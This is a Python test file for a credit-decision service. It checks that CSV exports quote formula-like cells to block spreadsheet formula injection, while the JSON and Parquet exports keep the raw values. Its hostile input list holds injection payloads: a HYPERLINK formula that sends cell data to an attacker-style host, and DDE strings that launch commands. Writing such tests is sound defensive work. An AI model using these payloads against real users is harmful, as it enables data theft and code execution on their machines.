"""CSV exports never hand a spreadsheet a formula: text that starts like one is quoted (OWASP),
on both export paths (PostgreSQL's COPY and the Python writer), while numbers, JSON and Parquet
carry the values as logged."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import pyarrow.parquet as pq
from fastapi.testclient import TestClient

from core.auth.models import Role
from core.db import utcnow
from serving.payload import DecisionPayload

DECISIONS = "/api/v1/decisions"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"appeal here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["applicant-7", "a=b", "'already quoted"]
FEATURES = {"income": -5.0, "purpose": "@car"}


def _log(client: TestClient, subject_id: str, label: str, outlier_score: float) -> None:
    """A decision written by the service's own decision log, as predict writes one."""
    content: dict[str, Any] = {
        "decision_id": str(uuid.uuid4()),
        "kind": "decision",
        "created_at": utcnow().isoformat(),
        "endpoint": "credit",
        "key_id": "partner",
        "subject_id": subject_id,
        "label": label,
        "score": 0.4,
        "outlier_score": outlier_score,
        "is_outlier": False,
        "model": {"name": "credit", "version": 1, "sha256": "0" * 64},
        "route": "live",
        "features": FEATURES,
        "context": {"sex": "F"},
    }
    client.app.state.serving.log.submit([DecisionPayload.from_content(content)]).result(timeout=30)


def _expected(value: str) -> str:
    return "'" + value if value[:1] in {"=", "+", "-", "@", "\t", "\r"} else value


def test_formula_like_text_is_neutralised_in_csv_and_left_raw_elsewhere(
    client: TestClient, auth: Any
) -> None:
    subjects = HOSTILE + HARMLESS
    labels = ["-1", "@1", "1"]
    for i, subject in enumerate(subjects):
        _log(client, subject, labels[i % 3], outlier_score=-0.25 * (i + 1))
    headers = auth(Role.compliance)

    exported = client.get(DECISIONS, headers=headers, params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    table = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert [r["subject_id"] for r in table] == [_expected(s) for s in subjects]
    assert [r["label"] for r in table] == [_expected(labels[i % 3]) for i in range(len(subjects))]
    assert table[0]["label"] == "'-1" and table[2]["label"] == "1"
    # Numbers stay numbers, negative ones included; JSON cells start with "{" and stay JSON.
    assert [float(r["outlier_score"]) for r in table] == [
        -0.25 * (i + 1) for i in range(len(subjects))
    ]
    assert [int(r["seq"]) for r in table] == list(range(1, len(subjects) + 1))
    assert {r["version"] for r in table} == {"1"} and {r["score"] for r in table} == {"0.4"}
    assert [json.loads(r["features"]) for r in table] == [FEATURES] * len(subjects)
    for row in table:  # no cell a spreadsheet would evaluate, but negative numbers
        starts = {name: cell[:1] for name, cell in row.items() if name != "outlier_score"}
        assert not set(starts.values()) & {"=", "+", "-", "@", "\t", "\r"}, row

    as_json = client.get(DECISIONS, headers=headers, params={"limit": 100}).json()["data"]
    assert [r["subject_id"] for r in as_json] == subjects
    parquet = client.get(DECISIONS, headers=headers, params={"format": "parquet"})
    frame = pq.read_table(io.BytesIO(parquet.content)).to_pandas()
    assert list(frame["subject_id"]) == subjects
    assert list(frame["label"]) == [labels[i % 3] for i in range(len(subjects))]
